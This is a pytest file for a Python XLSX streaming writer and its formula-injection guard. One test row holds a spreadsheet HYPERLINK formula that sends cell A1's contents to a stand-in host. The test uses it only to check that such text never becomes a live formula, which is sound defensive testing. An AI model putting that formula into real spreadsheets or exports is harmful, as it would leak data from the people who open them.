import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from hailong.core.formula_guard import formula_guard, formula_unguard
from hailong.core.xlsx_stream import Sheet, Styled, column_letter, xlsx_stream


def workbook(*sheets: Sheet, names=("Trang 1", "Trang 2")):
    data = b"".join(xlsx_stream(list(names[: len(sheets)]), sheets))
    return data, load_workbook(io.BytesIO(data))


def test_columns_are_lettered_as_excel_does():
    assert [column_letter(i) for i in (0, 25, 26, 51, 701, 702)] == [
        "A",
        "Z",
        "AA",
        "AZ",
        "ZZ",
        "AAA",
    ]


def test_cells_keep_their_types_and_text_is_never_a_formula():
    rows = [
        Styled(["mã", "khi", "số", "chữ"], "bold"),
        ["a", datetime(2026, 3, 10, 8, 30, 15), 5, '=HYPERLINK("http://x/?"&A1,"x")'],
        ["b", date(2026, 1, 2), -3.5, "dòng 1\r\ndòng 2 <&> \x01"],
        [None, None, 0, ""],
    ]
    data, book = workbook(Sheet(rows, widths=[10, 20], frozen_rows=1))
    sheet = book.worksheets[0]
    assert list(sheet.iter_rows(values_only=True)) == [
        ("mã", "khi", "số", "chữ"),
        ("a", datetime(2026, 3, 10, 8, 30, 15), 5, '=HYPERLINK("http://x/?"&A1,"x")'),
        ("b", datetime(2026, 1, 2), -3.5, "dòng 1\r\ndòng 2 <&> "),
        (None, None, 0, None),
    ]
    assert [sheet.cell(2, c).data_type for c in range(1, 5)] == ["s", "d", "n", "s"]
    assert sheet.cell(1, 1).font.b is True
    assert sheet.cell(3, 2).number_format == "dd/mm/yyyy"
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width == 20
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_sheets_come_in_order_with_their_names():
    _data, book = workbook(Sheet([["một"]]), Sheet([["hai"]]), names=("Phiếu: 1/2", "Chú giải"))
    assert book.sheetnames == ["Phiếu  1 2", "Chú giải"]
    assert [s["A1"].value for s in book.worksheets] == ["một", "hai"]


def test_the_bytes_leave_while_the_rows_are_still_being_made():
    made = []

    def rows():
        for n in range(20_000):
            made.append(n)
            yield [f"hàng {n}", n]

    pieces = xlsx_stream(["Trang"], [Sheet(rows())], flush_bytes=16 * 1024)
    first = next(pieces)
    assert (first[:4], made) == (b"PK\x03\x04", [])
    next(pieces)
    assert 0 < len(made) < 20_000
    b"".join(pieces)
    assert len(made) == 20_000


def test_a_zoned_time_is_refused():
    from zoneinfo import ZoneInfo

    moment = datetime(2026, 3, 10, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
    with pytest.raises(ValueError, match="time zones"):
        b"".join(xlsx_stream(["Trang"], [Sheet([[moment]])]))


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("=1+2", "'=1+2"),
        ("+84 912", "'+84 912"),
        ("-2 điểm", "'-2 điểm"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Tốt", "Tốt"),
        ("'=đã có dấu nháy", "''=đã có dấu nháy"),
        ("'không sao", "'không sao"),
        ("", ""),
    ],
)
def test_the_formula_guard_is_taken_off_exactly(text, guarded):
    assert (formula_guard(text), formula_unguard(guarded)) == (guarded, text)
